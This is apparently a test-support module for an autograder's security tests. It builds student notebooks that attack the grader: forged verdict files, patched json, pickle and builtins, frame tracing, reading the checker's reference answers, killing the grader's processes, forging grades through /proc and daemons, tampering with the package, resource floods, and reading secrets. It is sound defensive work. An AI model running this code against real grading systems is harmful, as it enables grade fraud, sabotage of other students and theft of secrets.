"""Adversarial student notebooks for tests/test_grade_attacks.py, one builder per attack of issue 11.

Every attacker that targets the verdict defines WRONG lesson-01 functions (WRONG_FUNCTIONS: 0.0 for the
two scalar functions, Z and A swapped for the layer), so it can only score through a forged verdict.
Each attack cell says in comments what it tries and what the grader must do about it.

Safety on the test machine (the grader under test may have no sandbox, and the tests run as root):
attacks that write or kill outside their own folder only touch paths or processes carrying the test
run's random token (`Ctx.token`), which only the test's own files and grader command lines contain.

Placeholders `@NAME@` in cell sources are replaced by `repr(value)` (see `fill`).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from bpkit.notebook import lesson_metadata
from course_facts import lesson_exercise_ids, lesson_points

ROOT = Path(__file__).resolve().parents[1]
SOLUTION_01 = ROOT / "solutions" / "01_neurons.ipynb"
SOLUTION_13 = ROOT / "solutions" / "13_capstone.ipynb"
# Lesson 01 as the registry has it: an exercise added there changes these, and no attack's expectation.
# The attacks themselves define (wrong) lesson-01 functions by name; an exercise they do not define is
# missing from their notebook and scores 0 like their wrong ones.
LESSON_01_IDS = tuple(lesson_exercise_ids("01"))
LESSON_01_POINTS = lesson_points("01")


@dataclass
class Ctx:
    """What an attack may know: the run's token and the paths the test guesses on its behalf."""

    token: str  # random; in every path of the run, so attacks can recognise (only) this run's files
    out: Path  # the run's --out (a good guess of an instructor's folder: attacks also find it in /proc)
    canary: Path  # a file outside --out that must stay unchanged
    victims: list[Path] = field(default_factory=list)  # honest notebooks graded in the same run
    other_class_glob: str = ""  # glob of another class's feedback files elsewhere under /tmp
    real_package: str = ""  # the bpkit package folder the test itself imports (probed, never written)


def fill(source: str, **values) -> str:
    for name, value in values.items():
        source = source.replace(f"@{name}@", repr(value))
    assert "@" not in source.replace("@property", ""), f"unfilled placeholder in:\n{source}"
    return source


def notebook(lesson: str, *cells: str) -> nbformat.NotebookNode:
    """A small notebook with the metadata `bpkit release` writes and the given code cells."""
    meta = copy.deepcopy(nbformat.read(SOLUTION_01, as_version=4).metadata)
    meta.update(lesson_metadata(lesson))
    return new_notebook(
        metadata=meta,
        cells=[new_markdown_cell("Attack notebook (tests/attack_notebooks.py)")]
        + [new_code_cell(source) for source in cells],
    )


def solution_01() -> nbformat.NotebookNode:
    """The full lesson-01 solution: an honest student with full marks."""
    return nbformat.read(SOLUTION_01, as_version=4)


IMPORTS = "import numpy as np"

WRONG_FUNCTIONS = """\
# The graded functions, WRONG on purpose: any points can only come from a forged verdict.
def weighted_sum(x, w, b):
    return 0.0


def neuron_forward(x, w, b, activation):
    return 0.0


def layer_forward(X, W, b, activation):
    Z = X @ W + b
    return activation(Z), Z  # swapped: the right answer is (Z, A)
"""

# What a forger needs: the checker's reference answers, if the kernel can import them from bpkit.
ORACLE = '''\
# The forger's oracle: the checker's reference functions and cases, if bpkit ships them to the kernel.
try:
    from bpkit.checks import EXERCISES as _EXERCISES
    from bpkit.checks import _harness as _bp_harness
    _REFERENCE = {eid: _EXERCISES[eid].reference for eid in ("weighted_sum", "neuron_forward", "layer_forward")}
except Exception:
    _EXERCISES, _bp_harness, _REFERENCE = {}, None, {}


def _forged_observation(eid, index):
    """What the reference returns on the checker's case `index`, encoded as the harness would."""
    exercise = _EXERCISES[eid]
    case = exercise.cases()[index]
    return _bp_harness.observe(exercise.reference, case.args, case.kwargs, exercise.kind, exercise.strict_fp)
'''


def wrong_attacker(*attack_cells: str) -> nbformat.NotebookNode:
    """Lesson 01 with wrong functions, the oracle, then the attack cells (a verdict forger)."""
    return notebook("01", IMPORTS, WRONG_FUNCTIONS, ORACLE, *attack_cells)


def wrong_notebook(*attack_cells: str) -> nbformat.NotebookNode:
    """Lesson 01 with wrong functions, then the attack cells (no oracle: it does not forge verdicts)."""
    return notebook("01", IMPORTS, WRONG_FUNCTIONS, *attack_cells)


# -- forged verdicts -------------------------------------------------------------------------------


def forge_file(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_attacker(
        fill(
            """\
# ATTACK (pre-fill the observation channel): append the reference's observations of the checker's own
# cases, plus verdict-shaped "pass" records, to every observation-like file within reach (today the
# grader reads ../io/observations.jsonl, first record wins), and create likely names in advance.
# Expected: 0 points (possibly flagged reference-answers).
import glob, json, os
from pathlib import Path

records = []
for eid in _REFERENCE:
    for index in range(len(_EXERCISES[eid].cases())):
        records.append({"exercise": eid, "case": index, "observation": _forged_observation(eid, index)})
for eid in ("weighted_sum", "neuron_forward", "layer_forward"):
    records.append({"exercise": eid, "status": "pass", "passed": True, "points": 99, "verdict": "pass"})
text = "".join(json.dumps(record) + "\\n" for record in records)
here = Path.cwd()
targets = set()
for pattern in ("*.json*", "../*.json*", "../*/*.json*", "*/*.json*"):
    targets.update(Path(p).resolve() for p in glob.glob(pattern))
for folder in (here, here.parent, here.parent / "io"):
    for name in ("observations.jsonl", "results.jsonl", "verdicts.jsonl", "replies.jsonl"):
        targets.add(folder / name)
written = []
for target in sorted(targets):
    if @TOKEN@ not in str(target) and not str(target).startswith(str(here.parent)):
        continue  # never write outside this run's folders
    try:
        with open(target, "a", encoding="utf-8") as handle:
            handle.write(text)
        written.append(target.name)
    except OSError:
        pass
print("forged records written to", written)""",
            TOKEN=ctx.token,
        )
    )


def fake_modules(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_attacker("""\
# ATTACK (fake `json` and `pickle` in sys.modules): any later `import json` / `import pickle` by the
# grader's kernel-side code gets these. pickle.load(s) first swaps the notebook's wrong functions for
# the reference answers; json.dumps rewrites any record naming an exercise and a case into the
# reference's observation. Expected: 0 points (possibly flagged reference-answers).
import sys, types
import json as _real_json
import pickle as _real_pickle


def _swap_in_reference():
    namespace = get_ipython().user_ns
    for eid, reference in _REFERENCE.items():
        namespace[eid] = reference


fake_pickle = types.ModuleType("pickle")
fake_pickle.__dict__.update(_real_pickle.__dict__)
fake_pickle.load = lambda *a, **k: (_swap_in_reference(), _real_pickle.load(*a, **k))[1]
fake_pickle.loads = lambda *a, **k: (_swap_in_reference(), _real_pickle.loads(*a, **k))[1]

fake_json = types.ModuleType("json")
fake_json.__dict__.update(_real_json.__dict__)


def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("exercise") in _REFERENCE and isinstance(obj.get("case"), int):
        obj = dict(obj, observation=_forged_observation(obj["exercise"], obj["case"]))
    return _real_json.dumps(obj, *args, **kwargs)


fake_json.dumps = _dumps
sys.modules["json"] = fake_json
sys.modules["pickle"] = fake_pickle""")


def shadow_builtins(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_attacker("""\
# ATTACK (global exec / compile / open shadowing the builtins for code that runs in this namespace):
# exec runs the code, then wraps any `observe` it defined so that it calls the reference instead of the
# notebook's function; open wraps files opened for writing so JSON lines get the reference's
# observation; compile passes through (it proves the grader's code resolves names here).
# Expected: 0 points (possibly flagged reference-answers).
import builtins
import json as _json


def exec(source, *args, **kwargs):
    result = builtins.exec(source, *args, **kwargs)
    for namespace in args[:1]:
        if isinstance(namespace, dict) and callable(namespace.get("observe")):
            real = namespace["observe"]
            namespace["observe"] = lambda fn, *a, _real=real, **k: _real(
                _REFERENCE.get(getattr(fn, "__name__", ""), fn), *a, **k)
    return result


def compile(source, *args, **kwargs):
    return builtins.compile(source, *args, **kwargs)


class _ForgingFile:
    def __init__(self, handle):
        self._handle = handle

    def write(self, text):
        lines = []
        for line in text.splitlines(keepends=True):
            try:
                record = _json.loads(line)
            except Exception:
                lines.append(line)
                continue
            if isinstance(record, dict) and record.get("exercise") in _REFERENCE and isinstance(record.get("case"), int):
                record["observation"] = _forged_observation(record["exercise"], record["case"])
                line = _json.dumps(record) + "\\n"
            lines.append(line)
        return self._handle.write("".join(lines))

    def __getattr__(self, name):
        return getattr(self._handle, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return self._handle.__exit__(*exc)


def open(file, mode="r", *args, **kwargs):
    handle = builtins.open(file, mode, *args, **kwargs)
    return _ForgingFile(handle) if ("w" in mode or "a" in mode) and "b" not in mode else handle""")


def settrace(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_attacker("""\
# ATTACK (sys.settrace rewriting values in frames): on every call made by code that is neither this
# notebook's cells nor the standard library / site-packages (that is: the grader's harness, whatever its
# shape), any local holding one of the notebook's wrong functions is replaced by the reference answer.
# Expected: 0 points (possibly flagged reference-answers).
import ctypes, sys, threading

_WRONG = {id(weighted_sum): "weighted_sum", id(neuron_forward): "neuron_forward", id(layer_forward): "layer_forward"}
_LIBRARIES = tuple({sys.prefix, sys.base_prefix, sys.exec_prefix})


def _tracer(frame, event, arg):
    if event != "call" or not _REFERENCE or frame.f_code.co_filename.startswith(_LIBRARIES):
        return None
    changed = False
    for name, value in list(frame.f_locals.items()):
        eid = _WRONG.get(id(value))
        if eid is not None:
            frame.f_locals[name] = _REFERENCE[eid]
            changed = True
    if changed:  # write the frame's locals back (Python 3.11/3.12)
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return None


sys.settrace(_tracer)
threading.settrace(_tracer)""")


def input_transformer(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_attacker("""\
# ATTACK (IPython input transformer): every cell run after this one (the grader's cells) is rewritten to
# start by putting the reference answers in place of the notebook's wrong functions.
# Expected: 0 points (possibly flagged reference-answers).
_forge_namespace = _REFERENCE
PREFIX = ("try:\\n"
          "    globals().update(get_ipython().user_ns.get('_forge_namespace') or {})\\n"
          "except Exception:\\n"
          "    pass\\n")


def _rewrite(lines):
    return [PREFIX] + list(lines)


get_ipython().input_transformers_post.append(_rewrite)""")


def frame_inspection(ctx: Ctx) -> nbformat.NotebookNode:
    functions = """\
# ATTACK (functions that inspect their callers): a caller's local named like an expected value is
# returned as the answer; if a caller is the grader (its code is not a notebook cell: "harness",
# "grader" or "bpkit" in its file or module name), the reference answer is returned. Called by the
# student's own code these functions are WRONG (0.0, swapped layer).
# Expected: 0 points (possibly flagged reference-answers).
import sys

_EXPECTED_NAMES = {"expected", "expect", "reference", "ref", "want", "wanted", "answer", "correct", "truth",
                   "expected_output", "expected_value", "target"}
_LIBRARIES = tuple({sys.prefix, sys.base_prefix, sys.exec_prefix})


def _from_callers(eid, args):
    frame, grader_seen = sys._getframe(2), False
    while frame is not None:
        where = frame.f_code.co_filename
        if not where.startswith(_LIBRARIES):
            for key, value in frame.f_locals.items():
                if key.lower() in _EXPECTED_NAMES:
                    return True, (value(*args) if callable(value) else value)
            module = str(frame.f_globals.get("__name__", ""))
            if any(word in (where + module).lower() for word in ("harness", "grader", "bpkit")):
                grader_seen = True
        frame = frame.f_back
    if grader_seen and eid in _REFERENCE:
        return True, _REFERENCE[eid](*args)
    return False, None


def weighted_sum(x, w, b):
    found, value = _from_callers("weighted_sum", (x, w, b))
    return value if found else 0.0


def neuron_forward(x, w, b, activation):
    found, value = _from_callers("neuron_forward", (x, w, b, activation))
    return value if found else 0.0


def layer_forward(X, W, b, activation):
    found, value = _from_callers("layer_forward", (X, W, b, activation))
    if found:
        return value
    Z = X @ W + b
    return activation(Z), Z"""
    return notebook("01", IMPORTS, ORACLE, functions)


# -- reference answers shipped inside bpkit --------------------------------------------------------


def reference_import(ctx: Ctx) -> nbformat.NotebookNode:
    return notebook(
        "01",
        IMPORTS,
        """\
# ATTACK (import the checker's reference answers as one's own functions).
# Expected: 0 points, or flagged `reference-answers`.
from bpkit.checks.lesson01 import _weighted_sum as weighted_sum
from bpkit.checks.lesson01 import _neuron_forward as neuron_forward
from bpkit.checks.lesson01 import _layer_forward as layer_forward""",
    )


def reference_source(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_attacker(
        fill(
            """\
# ATTACK (read the checker's source file): open bpkit/checks/lesson01.py (found through bpkit.checks.__file__,
# every sys.path entry, and the path the test's own bpkit lives at) and define the reference functions
# from its text. The functions above are wrong until this cell replaces them.
# Expected: 0 points, or flagged `reference-answers`.
import ast, os, sys
from pathlib import Path

candidates = []
try:
    import bpkit.checks
    candidates.append(Path(bpkit.checks.__file__).with_name("lesson01.py"))
except Exception:
    pass
candidates += [Path(entry, "bpkit", "checks", "lesson01.py") for entry in sys.path if entry]
candidates.append(Path(@REAL@, "checks", "lesson01.py"))
WANTED = {"_weighted_sum": "weighted_sum", "_neuron_forward": "neuron_forward", "_layer_forward": "layer_forward"}
for candidate in candidates:
    try:
        with open(candidate, encoding="utf-8") as handle:
            tree = ast.parse(handle.read())
    except Exception:
        continue
    defs = [node for node in tree.body if isinstance(node, ast.FunctionDef) and node.name in WANTED]
    if defs:
        namespace = {"np": np}
        exec(compile(ast.Module(body=defs, type_ignores=[]), str(candidate), "exec"), namespace)
        for private, public in WANTED.items():
            if private in namespace:
                globals()[public] = namespace[private]
        break""",
            REAL=ctx.real_package,
        )
    )


def capstone_lookup(ctx: Ctx) -> nbformat.NotebookNode:
    """Lesson 13 from the capstone solution, with `predict` replaced by a lookup in the shipped digits."""
    solution = nbformat.read(SOLUTION_13, as_version=4)
    imports = next(c for c in solution.cells if c.cell_type == "code" and "import" in c.source)
    predict = next(c for c in solution.cells if c.cell_type == "code" and c.source.startswith("def predict("))
    attack = copy.deepcopy(predict)
    attack.source = """\
# ATTACK (the held-out digits are images of the shipped data set): look every image up in
# bpkit.data.load_digits() and return its stored label; no learning at all, label 0 when not found.
# Expected: no points for `predict` (the grader must score on images that are not in the shipped data).
import numpy as np
from bpkit.data import load_digits

_X_all, _y_all = load_digits()
_LABEL_OF = {row.tobytes(): int(label) for row, label in zip(np.asarray(_X_all, dtype=np.float64), _y_all)}


def predict(X):
    X = np.asarray(X, dtype=np.float64)
    return np.array([_LABEL_OF.get(row.tobytes(), 0) for row in X], dtype=np.int64)"""
    nb = copy.deepcopy(solution)
    nb.cells = [c for c in solution.cells if c.cell_type == "markdown"][:1] + [imports, attack]
    return nb


# -- submissions reaching each other and the instructor --------------------------------------------

FIND_GRADER = '''\
import glob, json, os, time
from pathlib import Path

TOKEN = @TOKEN@


def grader_command_lines():
    """argv of our parent and of every process whose command line mentions this test run's token."""
    parent = str(os.getppid())
    for pid in [parent] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            argv = [os.fsdecode(a) for a in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0") if a]
        except OSError:
            continue
        if any(TOKEN in a for a in argv):  # this test run's grader only, never another program
            yield argv


outs, submissions = {@OUT@}, set(@VICTIMS@)  # guesses, plus what /proc tells
for argv in grader_command_lines():
    for i, arg in enumerate(argv):
        if arg == "--out" and i + 1 < len(argv):
            outs.add(argv[i + 1])
        elif arg.startswith("--out="):
            outs.add(arg[len("--out="):])
        elif arg.endswith(".ipynb"):
            submissions.add(arg)
'''


def snoop(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(FIND_GRADER, TOKEN=ctx.token, OUT=str(ctx.out), VICTIMS=[str(v) for v in ctx.victims]),
        fill(
            """\
# ATTACK (reach other submissions and the instructor through /proc/$PPID/cmdline and /proc/*/cmdline):
#  - rewrite the honest students' notebooks on disk (an injected first cell kills their kernel),
#  - overwrite their feedback in --out (waits up to 15 s for it to appear),
#  - append a forged full-marks row to --out/grades.csv and write a file next to --out,
#  - overwrite a canary file outside --out and another class's feedback files under /tmp.
# Its own functions are WRONG. Expected: 0 points; every one of those files unchanged.
hits = []


def attempt(what, action):
    try:
        action()
        hits.append(what)
    except Exception:
        pass


def poison(path):
    nb = json.loads(Path(path).read_text(encoding="utf-8"))
    nb["cells"].insert(0, {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                           "source": "import os\\nos._exit(3)  # injected by another submission"})
    Path(path).write_text(json.dumps(nb), encoding="utf-8")


for path in sorted(submissions):
    if Path(path).name.startswith("honest"):  # the victims only: other attackers keep their own outcome
        attempt(f"notebook {Path(path).name}", lambda path=path: poison(path))

deadline = time.time() + 15
while time.time() < deadline and any(Path(out, "feedback").is_dir() for out in outs):
    found = [md for out in outs for md in glob.glob(os.path.join(out, "feedback", "honest*.md"))]
    for md in found:
        attempt(f"feedback {Path(md).name}", lambda md=md: Path(md).write_text("# PWNED by snoop\\n"))
    if found:
        break
    time.sleep(0.3)

FORGED_ROW = "forged.ipynb,forged-by-snoop,01,weighted_sum,1,1,pass,forged,\\n"
for out in outs:
    attempt("grades.csv", lambda out=out: open(os.path.join(out, "grades.csv"), "a").write(FORGED_ROW))
    attempt("next to --out", lambda out=out: Path(out).resolve().parent.joinpath(f"pwned-{TOKEN}.txt").write_text("pwned"))
attempt("canary", lambda: Path(@CANARY@).write_text("PWNED by snoop"))
for md in glob.glob(@OTHER@, recursive=True):
    attempt(f"other class {Path(md).name}", lambda md=md: Path(md).write_text("# PWNED by snoop\\n"))
if hits:
    raise RuntimeError("SNOOP-HITS: " + ", ".join(hits))""",
            CANARY=str(ctx.canary),
            OTHER=ctx.other_class_glob,
        ),
    )


def killer(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(
            """\
# ATTACK (kill the grader and everything of this grading run that is visible): SIGKILL our parent and
# every process whose command line has this run's token (the grader) with all their descendants (other
# submissions' kernels), never ourselves. For the test machine's safety the parent is only killed when it
# is this run's grader (or bwrap / bpkit), never pid 1. Expected: the run still completes (exit code 0)
# with rows for every submission; this notebook gets 0 points.
import os, signal
from pathlib import Path

TOKEN = @TOKEN@.encode()
me, parent = os.getpid(), os.getppid()
children, marked = {}, set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        ppid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
    except (OSError, ValueError, IndexError):
        continue
    children.setdefault(ppid, []).append(int(pid))
    if TOKEN in cmdline:
        marked.add(int(pid))
try:
    parent_cmdline = Path(f"/proc/{parent}/cmdline").read_bytes()
except OSError:
    parent_cmdline = b""
if parent > 1 and (TOKEN in parent_cmdline or b"bwrap" in parent_cmdline or b"bpkit" in parent_cmdline):
    marked.add(parent)
targets, todo = set(), list(marked)
while todo:
    pid = todo.pop()
    if pid not in targets and pid > 1:
        targets.add(pid)
        todo.extend(children.get(pid, []))
targets.discard(me)
for pid in sorted(targets):  # the grader first (lowest pid), then its children
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass""",
            TOKEN=ctx.token,
        )
    )


DAEMON = """\
import os, sys, time
from pathlib import Path

marker, grader, out, canary = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
if os.fork():
    os._exit(0)  # double fork: the daemon is nobody's child any more
born = time.time()
while Path(f"/proc/{grader}").exists() and time.time() - born < 60:
    time.sleep(0.2)  # wait for the grader to finish (at most a minute)
time.sleep(1.0)
for action in (
    lambda: open(Path(out, "grades.csv"), "a").write("daemon.ipynb,forged-by-daemon,01,weighted_sum,1,1,pass,forged,\\n"),
    lambda: open(Path(out, "summary.csv"), "a").write("daemon.ipynb,forged-by-daemon,01,4,4,100.0,,\\n"),
    lambda: [p.write_text("# PWNED by daemon\\n") for p in Path(out, "feedback").glob("honest*.md")],
    lambda: Path(canary).write_text("PWNED by daemon"),
):
    try:
        action()
    except Exception:
        pass
"""


def daemon(ctx: Ctx, marker: str) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(FIND_GRADER, TOKEN=ctx.token, OUT=str(ctx.out), VICTIMS=[]),
        fill(
            """\
# ATTACK (a daemon outliving its submission): a new session, double-forked, that waits for the grader to
# exit and then appends forged rows to grades.csv and summary.csv, overwrites the honest students'
# feedback and a canary file outside --out. Its command line carries a marker so the test can see it.
# Its functions are WRONG. Expected: no process with the marker survives the run; no file changes later.
import subprocess, sys

for out in sorted(outs):
    subprocess.Popen([sys.executable, "-c", @DAEMON@, @MARKER@, str(os.getppid()), out, @CANARY@],
                     start_new_session=True, cwd="/", stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)""",
            DAEMON=DAEMON,
            MARKER=marker,
            CANARY=str(ctx.canary),
        ),
    )


def package_tamper(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(
            """\
# ATTACK (tamper with the installed bpkit so that every later run cheats): append to checks/_harness.py and
# every other file of the bpkit package the kernel imports. For the test machine's safety it only writes
# to a package whose path has this run's token (the throwaway copy the test puts on PYTHONPATH); any
# other bpkit (including the test's own) is only probed: opened for append, nothing written.
# Expected: every package file unchanged, and no file of either package writable from the kernel.
import os
from pathlib import Path

TOKEN = @TOKEN@
roots = {Path(@REAL@)}
try:
    import bpkit
    roots.add(Path(bpkit.__file__).resolve().parent)
except Exception:
    pass
written, writable = [], []
for root in roots:
    for path in sorted(root.rglob("*.py")):
        try:
            if TOKEN in str(path):
                with open(path, "a", encoding="utf-8") as handle:
                    handle.write("\\nTAMPERED = True  # appended by a student notebook\\n")
                written.append(path.name)
            else:
                open(path, "ab").close()  # probe only: append mode, zero bytes
                writable.append(path.name)
        except OSError:
            pass
if written or writable:
    raise RuntimeError(f"PACKAGE-TAMPERED: wrote {len(written)} files, {len(writable)} more writable")""",
            TOKEN=ctx.token,
            REAL=ctx.real_package,
        )
    )


# -- limits ----------------------------------------------------------------------------------------


def memory_children(ctx: Ctx) -> nbformat.NotebookNode:
    """The full solution plus three children holding 1.2 GB each (each under a per-process 2048 MB cap)."""
    nb = solution_01()
    nb.cells.append(
        new_code_cell(
            fill(
                """\
# ATTACK (memory across a process tree): three child processes each allocate and hold ~1.2 GB, each one
# under a per-process limit of 2048 MB, 3.6 GB together. If all three hold it at the same time this cell
# raises MEMORY-ATTACK-HELD. Children hold their memory for at most 8 s, then exit.
# Expected (--memory-mb 2048): the cap covers the whole tree: an error row, MEMORY-ATTACK-HELD never seen.
import os, subprocess, sys, time

CHILD = ("import sys, time\\n"
         "block = b'x' * (1200 * 2**20)  # written, so really resident\\n"
         "open(sys.argv[1], 'w').close()\\n"
         "time.sleep(8)\\n")
children = [subprocess.Popen([sys.executable, "-c", CHILD, f"held-{i}", @TOKEN@ + "-memory-child"]) for i in range(3)]
try:
    deadline = time.time() + 40
    while time.time() < deadline and all(child.poll() is None for child in children):
        if all(os.path.exists(f"held-{i}") for i in range(3)):
            raise RuntimeError("MEMORY-ATTACK-HELD: 3 children x 1200 MB at once")
        time.sleep(0.1)
finally:
    for child in children:
        child.kill()
        child.wait()""",
                TOKEN=ctx.token,
            )
        )
    )
    return nb


def flood(ctx: Ctx) -> nbformat.NotebookNode:
    return notebook(
        "01",
        IMPORTS,
        """\
# ATTACK (a 700 MB reply): weighted_sum returns 720 MB of zeros (about 1 GB once encoded);
# the other two functions are WRONG. Expected: an error or fail row, 0 points, grader memory bounded.
def weighted_sum(x, w, b):
    return np.zeros(90_000_000)


def neuron_forward(x, w, b, activation):
    return 0.0


def layer_forward(X, W, b, activation):
    Z = X @ W + b
    return activation(Z), Z""",
        fill(
            """\
# ATTACK (a 700 MB line with no newline, written in 1 MB pieces so the kernel stays small): appended to
# every observation-like file within reach of this run (today ../io/observations.jsonl), written to the
# kernel's stdout and stderr file descriptors, and printed to the notebook output in 50 MB flushes.
# Expected: the grader's own peak memory stays under 400 MB; the run completes.
import glob, os, sys
from pathlib import Path

CHUNK = b"x" * 2**20
targets = {Path(p).resolve() for pattern in ("*.jsonl", "../*.jsonl", "../*/*.jsonl") for p in glob.glob(pattern)}
for target in targets:
    if @TOKEN@ in str(target) or str(target).startswith(str(Path.cwd().parent)):
        try:
            with open(target, "ab") as handle:
                handle.write(b'{"exercise": "weighted_sum", "case": 0, "observation": "')
                for _ in range(700):
                    handle.write(CHUNK)
        except OSError:
            pass
for fd in (1, 2):
    try:
        for _ in range(700):
            os.write(fd, CHUNK)
    except OSError:
        pass
piece = "y" * (50 * 2**20)
for _ in range(14):
    sys.stdout.write(piece)
    sys.stdout.flush()
del piece""",
            TOKEN=ctx.token,
        ),
    )


def big_strings(ctx: Ctx) -> nbformat.NotebookNode:
    return notebook(
        "01",
        IMPORTS,
        """\
# ATTACK (30 MB of text wherever the grader copies student output into its files): a function returning a
# 30 MB string, one raising an exception with a 30 MB message, one returning a tuple of 30 MB strings, and a
# cell raising a 30 MB error. Expected: 0 points, no grades.csv row over 20 kB, bounded feedback file.
BIG = "x" * (30 * 2**20)


def weighted_sum(x, w, b):
    return BIG


def neuron_forward(x, w, b, activation):
    raise ValueError("y" * (30 * 2**20))


def layer_forward(X, W, b, activation):
    return BIG, BIG""",
        """raise RuntimeError("q" * (30 * 2**20))""",
    )


def surrogates(ctx: Ctx) -> nbformat.NotebookNode:
    return notebook(
        "01",
        IMPORTS,
        r"""
# ATTACK (text that cannot be encoded as UTF-8: lone surrogates): functions raise exceptions whose message
# holds one, or return one; then a cell raises ValueError("\ud800").
# Expected: the run completes, every output file is valid UTF-8, 0 points for this notebook.
def weighted_sum(x, w, b):
    raise ValueError("bad \ud800 value")


def neuron_forward(x, w, b, activation):
    return "\ud800"


def layer_forward(X, W, b, activation):
    return ("\udcff" * 3, "\ud800")""",
        r"""raise ValueError("\ud800")""",
    )


def lesson_liar(ctx: Ctx) -> nbformat.NotebookNode:
    return notebook(
        "00",
        IMPORTS,
        WRONG_FUNCTIONS,
        """\
# ATTACK (claim an easier lesson): the file is named *_01.ipynb and holds WRONG lesson-01 functions, but its
# metadata says lesson "00", whose one exercise is solved here. Today that scores 1/1 = 100%.
# Expected: an `invalid` row with the reason (metadata and file name disagree); with --lesson 01 it is
# graded as lesson 01 (0 points).
def two_input_sum(x1, x2, w1, w2, b):
    return w1 * x1 + w2 * x2 + b""",
    )


def honest_with_lesson_00_metadata(ctx: Ctx) -> nbformat.NotebookNode:
    """The full lesson-01 solution whose metadata wrongly says lesson 00 (a damaged but honest file)."""
    nb = solution_01()
    nb.metadata.update(lesson_metadata("00"))
    return nb


def sleeper(ctx: Ctx) -> nbformat.NotebookNode:
    return notebook(
        "01",
        fill(
            """\
# Not an attack: the test SIGKILLs the grader while this cell sleeps (the file tells it when).
import time
from pathlib import Path

Path(@NAME@).touch()
time.sleep(60)""",
            NAME=f"asleep-{ctx.token}",
        ),
    )


# -- issue 20: what a sandbox sees, stalls, leftovers ------------------------------------------------


def reader(ctx: Ctx, secrets: list[str]) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(
            """\
# ATTACK (read what the grader's user can read but never handed to the grader): the instructor's 0600
# key in their home, a file next to the class folder, another clone of the course (its solutions), the
# --exercises file, the class's Canvas zip; then walk every visible folder for any path that carries the
# run's token (every file of the test run does), and list what came along into our working folder.
# Expected: none of it is found; this notebook gets 0 points and no READER-HITS note.
import os
from pathlib import Path

hits = []
for path in @SECRETS@:
    try:
        hits.append(f"{path}: {Path(path).read_bytes()[:60]!r}")
    except OSError:
        pass
seen = 0
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys")]
    for name in files + dirs:
        seen += 1
        if @TOKEN@ in os.path.join(root, name):
            hits.append(os.path.join(root, name))
    if seen > 400_000:
        break
for name in os.listdir("."):
    if name != "submission.ipynb":
        hits.append(f"in my folder: {name}")
if hits:
    raise RuntimeError("READER-HITS: " + " | ".join(hits[:20]))""",
            SECRETS=secrets,
            TOKEN=ctx.token,
        )
    )


def channel_staller(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook(
        """\
# ATTACK (stop the grader by not reading): find the runner's request pipe among the open files, keep it
# open (a spare descriptor), and put an empty pipe in its place, so the runner waits forever and the
# grader's next request stays in the real pipe; the cell after is over 64 KiB, more than a pipe holds.
# Expected: the grader's write gives up at its deadline, this notebook is stopped (0 points), and the
# run completes for everyone.
import gc, io, os, stat

kept = []
for handle in gc.get_objects():
    if isinstance(handle, io.FileIO) and handle.mode == "rb" and not handle.closed:
        fd = handle.fileno()
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            kept.append(os.dup(fd))  # the real pipe stays open: the grader's writes only fill it
            empty, _writer = os.pipe()
            kept.append(_writer)
            os.dup2(empty, fd)""",
        "# " + "x" * 100_000,
    )


SOLUTION_LINES = """\
# Correct lesson-01 functions, written without weighted_sum so each stands alone.
def neuron_forward(x, w, b, activation):
    return activation(float(x @ w + b))


def layer_forward(X, W, b, activation):
    Z = X @ W + b
    return Z, activation(Z)
"""
ENDLESS_RIGHT = ("neuron_forward", "layer_forward")  # what `endless` defines correctly (the rest: not defined)


def endless(ctx: Ctx) -> nbformat.NotebookNode:
    # Only the functions it needs: its cells leave the checks their time under the run's --timeout 20.
    return notebook(
        "01",
        """\
# ATTACK (an endless exercise function): weighted_sum never returns, so the grader interrupts it. The
# other two functions are right. Expected: weighted_sum 0 (timeout); neuron_forward and layer_forward
# still checked and passed: the interrupt costs only that exercise.
def weighted_sum(x, w, b):
    while True:
        pass
""",
        SOLUTION_LINES,
    )


def litter(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(
            """\
# ATTACK (leave files for the next submission): write a marker into every place a sandbox might share
# with the next one (/dev, /proc, /, /run, /tmp, /dev/shm, HOME, /env). The `finder` graded after it
# looks for them. Expected: the finder finds none; this notebook gets 0 points.
import os
for folder in ("/dev", "/dev/shm", "/proc", "/", "/run", "/tmp", os.environ.get("HOME", "/tmp"), "/env", "/etc"):
    try:
        with open(os.path.join(folder, "litter-" + @TOKEN@), "w") as handle:
            handle.write("left by litter")
    except OSError:
        pass""",
            TOKEN=ctx.token,
        )
    )


def finder(ctx: Ctx) -> nbformat.NotebookNode:
    return wrong_notebook(
        fill(
            """\
# ATTACK (read what an earlier submission left): look for `litter`'s markers. Expected: none is found.
import os
found = []
